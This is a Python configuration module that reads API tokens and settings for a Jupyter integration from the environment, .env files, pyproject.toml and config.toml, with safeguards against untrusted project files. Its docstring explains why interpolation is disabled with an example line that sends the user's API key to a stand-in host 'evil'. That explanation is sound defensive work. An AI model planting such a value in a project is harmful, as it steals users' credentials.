"""Reads settings from the environment, `.env`, `pyproject.toml` and the user's `config.toml`.

A changed file is read again. The process's environment is never modified. Variables inside a `.env`
are not expanded. With expansion, the `.env` of a cloned project could set
`SWIFTASK_BASE_URL=https://evil/${SWIFTASK_API_KEY}` and send the user's token to the host `evil`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

from swiftask_jupyter.errors import ConfigurationError
from swiftask_jupyter.support.structs import RedactedStruct

# The variable of each setting, in the environment and in a `.env`.
VARIABLES = {
    "token": "SWIFTASK_API_KEY",
    "agent": "SWIFTASK_AGENT_SLUG",
    "base_url": "SWIFTASK_BASE_URL",
    "dialect": "SWIFTASK_DIALECT",
    "connection": "SWIFTASK_CONNECTION",
}
# The keys that a table of settings in a TOML file may have.
TABLE_KEYS = frozenset(("agent", "base_url", "dialect", "token_env", "connection", "connections"))
# Further keys, true or false, of the user's own config.toml. A project's files may not set them,
# because they may come from anyone.
SWITCHES = frozenset(("allow_http", "keep_texts"))
CONNECTION_SWITCHES = frozenset(("allow_http",))  # of the table of a connection
ALLOW_HTTP, KEEP_TEXTS = "SWIFTASK_ALLOW_HTTP", "SWIFTASK_KEEP_TEXTS"
_YES, _NO = ("", "1", "true", "yes", "on"), ("0", "false", "no", "off")


class ResolvedSetting(RedactedStruct, frozen=True):
    """The value of one setting, and the place where the setting was set.

    Attributes:
        value: the value.
        origin: a text that names the place, such as `SWIFTASK_API_KEY in the environment`.
        file: the path of the project's file that sets the value; empty for other places.
    """

    redacted_fields = frozenset(("value",))

    value: str
    origin: str
    file: str = ""


class SettingsTable(RedactedStruct, frozen=True):
    """One table of settings in a TOML file.

    The table holds the settings of the file itself, or the settings of one named connection.

    Attributes:
        values: a dict that maps keys to values.
        origin: a text that names the file and, for a named connection, the connection.
        file: the path of a project's `pyproject.toml`; empty for the user's own `config.toml`.
    """

    redacted_fields = frozenset(("values",))

    values: Mapping[str, Any]
    origin: str
    file: str

    @property
    def connections(self) -> Mapping[str, Any]:
        """A dict that maps the name of each named connection to the connection's table."""
        named: Mapping[str, Any] = self.values.get("connections", {})
        return named


class SettingsSources:
    """Reads settings from the environment variables and the files.

    Args:
        environ: the environment variables.
        directory: the directory where the search for `.env` and `pyproject.toml` begins. The search
            continues in the parent directories. `None` means the current directory.
    """

    def __init__(self, environ: Mapping[str, str], directory: Path | None = None) -> None:
        self._environ = environ
        self._directory = directory
        self._cache: dict[Path, tuple[tuple[int, int], Any]] = {}

    def layers(self) -> Iterator[dict[str, ResolvedSetting]]:
        """Yield one dict of settings for each source. The first dict has the highest precedence.

        A dict maps the name of a setting to the value and the origin of the setting.

        Raises:
            ConfigurationError: a file cannot be read, or has an invalid setting.
        """
        yield _from_variables(self._environ, "the environment")
        if (path := self._find_upward(".env")) is not None:
            yield _from_variables(self._read(path, _dotenv), str(path), file=str(path))
        for table in self.tables():
            yield self._from_table(table)

    def tables(self) -> Iterator[SettingsTable]:
        """Yield the settings in `pyproject.toml`, then the settings in the user's `config.toml`.

        The search for a `pyproject.toml` with a table `tool.swiftask` begins in the start
        directory. The search continues in the parent directories. A missing file is skipped.

        Raises:
            ConfigurationError: a file cannot be read, or has an invalid setting.
        """
        for directory in self._directories():
            path = directory / "pyproject.toml"
            values = self._read(path, _toml).get("tool") if path.is_file() else None
            if isinstance(values, dict) and "swiftask" in values:
                yield _validated(values["swiftask"], str(path), str(path))
                break
        if (own := self._own_table()) is not None:
            yield own

    def _own_table(self) -> SettingsTable | None:
        """Read the user's own `config.toml`. If the file does not exist, return `None`."""
        path = user_config_path()
        if not path.is_file():
            return None
        return _validated(self._read(path, _toml), str(path), "", SWITCHES)

    def allows_http(self, connection: str | None) -> bool:
        """Return whether the user's `config.toml` allows sending tokens unencrypted.

        Args:
            connection: the name of the connection that sets the base URL; `None` if no connection
                sets it. The settings of this connection are read too.

        Raises:
            ConfigurationError: a file cannot be read, or has an invalid setting.
        """
        tables = [own] if (own := self._own_table()) is not None else []
        if connection is not None:
            tables.append(self._connection_table(connection))
        return any(table.values.get("allow_http", False) for table in tables)

    def no_texts_origin(self) -> str:
        """Return the setting that forbids keeping prompts and answers; empty if no setting does.

        The returned text names the setting and the place of the setting. The setting is either
        `keep_texts` in the user's `config.toml`, or `SWIFTASK_KEEP_TEXTS` in the environment or in
        a `.env` file.

        Raises:
            ConfigurationError: a file cannot be read, or the value is neither yes nor no.
        """
        found = ""
        if (own := self._own_table()) is not None and not own.values.get("keep_texts", True):
            found = f"keep_texts in {own.origin}"
        for values, origin in self._variables():
            word = values.get(KEEP_TEXTS, "").strip().lower()
            if word not in _YES + _NO:
                raise ConfigurationError(
                    f"{KEEP_TEXTS} in {origin} is neither 0 nor 1",
                    advice="write 0 to keep no texts",
                )
            if word in _NO:
                found = f"{KEEP_TEXTS} in {origin}"
        return found

    def has_variable(self, name: str) -> bool:
        """Return whether the environment or the nearest `.env` file sets a variable."""
        return any(values.get(name) for values, _ in self._variables())

    def _variables(self) -> Iterator[tuple[Mapping[str, str], str]]:
        """Yield the variables of the environment, then the variables of the nearest `.env` file.

        Each pair has a dict that maps names to values, and a text that names the origin.
        """
        yield self._environ, "the environment"
        if (path := self._find_upward(".env")) is not None:
            yield self._read(path, _dotenv), str(path)

    def connection_names(self) -> list[str]:
        """Return the sorted names of all connections in `pyproject.toml` and `config.toml`."""
        return sorted({name for table in self.tables() for name in table.connections})

    def connection(self, name: str) -> dict[str, ResolvedSetting]:
        """Return a dict that maps the names of settings to the settings of a named connection.

        Raises:
            ConfigurationError: no connection has the name.
        """
        return self._from_table(self._connection_table(name))

    def missing_token_reason(self, name: str) -> str:
        """Return a text that says why a named connection has no token, for an error message."""
        variable = self._connection_table(name).values.get("token_env")
        if variable is None:
            return f"connection {name} names no token_env"
        return f"{variable}, which connection {name} names, is not set"

    def _connection_table(self, name: str) -> SettingsTable:
        for table in self.tables():
            if name in table.connections:
                origin = f"connection {name} in {table.origin}"
                switches = frozenset() if table.file else CONNECTION_SWITCHES
                return _validated(table.connections[name], origin, table.file, switches)
        names = self.connection_names()
        there_is = f"there is: {', '.join(names)}" if names else "none is configured"
        raise ConfigurationError(f"no connection {name!r}", advice=there_is)

    def _from_table(self, table: SettingsTable) -> dict[str, ResolvedSetting]:
        settings = {
            key: ResolvedSetting(value, table.origin, table.file)
            for key, value in table.values.items()
            if key not in {"token_env", "connections", *SWITCHES}
        }
        if (name := table.values.get("token_env")) and (token := self._token(name, table)):
            settings["token"] = token
        return settings

    def _token(self, variable: str, table: SettingsTable) -> ResolvedSetting | None:
        """Return the token that the environment variable `variable` holds, or `None`.

        If the environment lacks the variable, the token comes from a `.env` file.

        Raises:
            ConfigurationError: `table` is from a project's file, and the name of the variable does
                not begin with `SWIFTASK_`.
        """
        if table.file and not variable.startswith("SWIFTASK_"):
            raise ConfigurationError(
                f"{table.origin} asks for the variable {variable} as its token",
                advice="a project's file may name only variables that begin with SWIFTASK_",
            )
        if value := self._environ.get(variable):
            return ResolvedSetting(value, f"{variable} in the environment")
        path = self._find_upward(".env")
        value = self._read(path, _dotenv).get(variable) if path is not None else None
        return ResolvedSetting(value, f"{variable} in {path}", str(path)) if value else None

    def _directories(self) -> Iterator[Path]:
        start = self._directory
        if start is None:
            try:
                start = Path.cwd()
            except OSError:  # the current directory was deleted
                return
        yield start
        yield from start.parents

    def _find_upward(self, name: str) -> Path | None:
        return next((path for each in self._directories() if (path := each / name).is_file()), None)

    def _read(self, path: Path, parse: Callable[[Path], Any]) -> Any:
        """Return the parsed content of a file. An unchanged file is not parsed again.

        Raises:
            ConfigurationError: the file can't be read or parsed.
        """
        try:
            state = path.stat()
            stamp = (state.st_mtime_ns, state.st_size)
            if path not in self._cache or self._cache[path][0] != stamp:
                self._cache[path] = (stamp, parse(path))
        except (OSError, ValueError) as error:
            raise ConfigurationError(f"{path} can't be read ({error})") from None
        return self._cache[path][1]


def user_config_path() -> Path:
    """Return the path of the user's `config.toml`. The file may not exist."""
    import platformdirs

    return Path(platformdirs.user_config_dir("swiftask_jupyter", appauthor=False)) / "config.toml"


def _from_variables(
    values: Mapping[str, str], origin: str, file: str = ""
) -> dict[str, ResolvedSetting]:
    return {
        key: ResolvedSetting(value, f"{variable} in {origin}", file)
        for key, variable in VARIABLES.items()
        if (value := values.get(variable))
    }


def _dotenv(path: Path) -> dict[str, str]:
    from dotenv import dotenv_values

    values = dotenv_values(path, interpolate=False)
    return {name: value for name, value in values.items() if value is not None}


def _toml(path: Path) -> dict[str, Any]:
    import tomllib

    return tomllib.loads(path.read_text("utf-8-sig"))  # some editors write a byte order mark


def _validated(
    values: Any, origin: str, file: str, switches: frozenset[str] = frozenset()
) -> SettingsTable:
    """Check a table of settings and return the table as a `SettingsTable`.

    Args:
        values: the table, as read from the file.
        origin: a text for error messages that names the file and the connection.
        file: the path of the project's file; empty for the user's own `config.toml`.
        switches: the names in `SWITCHES` that the table may contain.

    Raises:
        ConfigurationError: the table has an unknown setting, or a value has the wrong type.
    """
    # An invalid value is not ignored: without its base URL, a connection would send its token to
    # the default host.
    if not isinstance(values, dict):
        raise ConfigurationError(f"{origin} is not a table of settings")
    if "token" in values:
        raise ConfigurationError(
            f"{origin} holds a token", advice='write token_env = "SWIFTASK_…" there instead'
        )
    if misplaced := sorted((values.keys() & SWITCHES) - switches):
        raise ConfigurationError(
            f"{origin} may not set {misplaced[0]}",
            advice=f"write it at the top of your own {user_config_path()}",
        )
    if unknown := sorted(values.keys() - TABLE_KEYS - SWITCHES):
        raise ConfigurationError(
            f"{origin} holds an unknown setting {unknown[0]!r}",
            advice=f"known are: {', '.join(sorted(TABLE_KEYS | switches))}",
        )
    for key, value in values.items():
        _check_type(key, value, origin)
    return SettingsTable(values, origin, file)


def _check_type(key: str, value: Any, origin: str) -> None:
    if key == "connections":
        if not isinstance(value, dict):
            raise ConfigurationError(f"connections in {origin} is not a table of connections")
    elif key in SWITCHES:
        if not isinstance(value, bool):
            raise ConfigurationError(f"{key} in {origin} must be true or false")
    elif not isinstance(value, str) or not value.strip():
        raise ConfigurationError(f"{key} in {origin} must be text, and not empty")
